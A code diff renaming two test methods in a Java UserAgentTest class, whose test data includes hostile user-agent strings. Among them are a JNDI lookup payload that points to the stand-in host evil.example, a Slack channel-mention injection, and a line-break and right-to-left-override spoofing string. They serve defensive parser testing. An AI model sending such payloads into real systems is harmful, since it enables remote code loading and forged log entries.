@@ -59,7 +59,7 @@ class UserAgentTest {
             ''                    | evil curl/8.5.0
             ''                    | <!channel> $1 ${jndi:ldap://evil.example/a}
             """)
-    void isToldInWords(String words, String userAgent) {
+    void isPutIntoWords(String words, String userAgent) {
         assertThat(UserAgent.parse(userAgent)).isEqualTo(new UserAgent(userAgent, words.replace("''", "")));
     }
 
@@ -69,7 +69,7 @@ class UserAgentTest {
     }
 
     @Test
-    void isReadAsASafeLineOfAtMost512() {
+    void isASafeLineOfAtMost512Characters() {
         var userAgent = TestRecord.call("iam/GetUser")
                 .with("{userAgent: 'curl/8.5.0\\nWHAT HAPPENED\\u202e%s'}".formatted("a".repeat(1_000)))
                 .read()
